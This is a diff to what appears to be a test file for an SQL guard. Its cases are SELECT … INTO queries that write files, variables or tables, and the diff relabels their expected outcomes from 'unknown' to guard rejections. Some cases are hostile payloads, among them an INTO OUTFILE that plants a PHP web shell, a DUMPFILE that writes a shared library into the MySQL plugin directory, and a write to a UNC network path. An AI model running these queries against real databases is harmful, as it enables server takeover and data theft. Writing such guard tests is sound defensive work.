@@ -1,52 +1,52 @@
 -- SELECT … INTO: a read that writes a file, a variable or a table (PayloadsAllTheThings "MySQL: write a shell"; sqlmap --file-write).
 
--- [all] unknown: INTO OUTFILE at the end
+-- [all] guard/parse: INTO OUTFILE at the end
 SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen'
 
--- [all] unknown: INTO OUTFILE before FROM
+-- [all] guard/parse: INTO OUTFILE before FROM
 SELECT name INTO OUTFILE '__FOLDER__/stolen' FROM products
 
--- [all] unknown: INTO OUTFILE with lines of one's own
+-- [all] guard/parse: INTO OUTFILE with lines of one's own
 SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen.php' LINES TERMINATED BY '<?php system($_GET[0]) ?>'
 
--- [all] unknown: INTO DUMPFILE
+-- [all] guard/parse: INTO DUMPFILE
 SELECT name FROM products LIMIT 1 INTO DUMPFILE '__FOLDER__/stolen'
 
--- [all] unknown: INTO DUMPFILE of a library
+-- [all] guard/parse: INTO DUMPFILE of a library
 SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/stolen.so'
 
--- [all] unknown: INTO OUTFILE behind a union
+-- [all] guard/parse: INTO OUTFILE behind a union
 SELECT name FROM products UNION SELECT memo FROM payroll INTO OUTFILE '__FOLDER__/stolen'
 
--- [all] unknown: INTO OUTFILE in a sub-query
+-- [all] guard/parse: INTO OUTFILE in a sub-query
 SELECT * FROM (SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen') AS t
 
--- [all] unknown: INTO OUTFILE of a UNC path
+-- [all] guard/parse: INTO OUTFILE of a UNC path
 SELECT name FROM products INTO OUTFILE '\\\\__HOST__\\share\\stolen'
 
--- [all] unknown: INTO OUTFILE with a charset
+-- [all] guard/parse: INTO OUTFILE with a charset
 SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen' CHARACTER SET utf8mb4 FIELDS TERMINATED BY ','
 
--- [all] unknown: INTO a variable
+-- [all] guard/parse: INTO a variable
 SELECT name FROM products LIMIT 1 INTO @stolen
 
--- [all] unknown: INTO a variable before FROM
+-- [all] guard/node: INTO a variable before FROM
 SELECT name INTO @stolen FROM products LIMIT 1
 
--- [all] unknown: INTO two variables behind a lock
+-- [all] guard/parse: INTO two variables behind a lock
 SELECT id, name FROM products LIMIT 1 FOR UPDATE INTO @a, @b
 
--- [all] unknown: INTO a table
+-- [all] guard/node: INTO a table
 SELECT name INTO stolen FROM products
 
--- [all] unknown: INTO a table in a CTE
+-- [all] guard/node: INTO a table in a CTE
 WITH a AS (SELECT name INTO stolen FROM products) SELECT * FROM a
 
--- [all] unknown: INTO STRICT of a procedure
+-- [all] guard/parse: INTO STRICT of a procedure
 SELECT name INTO STRICT stolen FROM products
 
--- [all] unknown: TABLE into a file
+-- [all] guard/parse: TABLE into a file
 TABLE products INTO OUTFILE '__FOLDER__/stolen'
 
--- [all] unknown: VALUES into a file
+-- [all] guard/parse: VALUES into a file
 VALUES ROW(1) INTO OUTFILE '__FOLDER__/stolen'
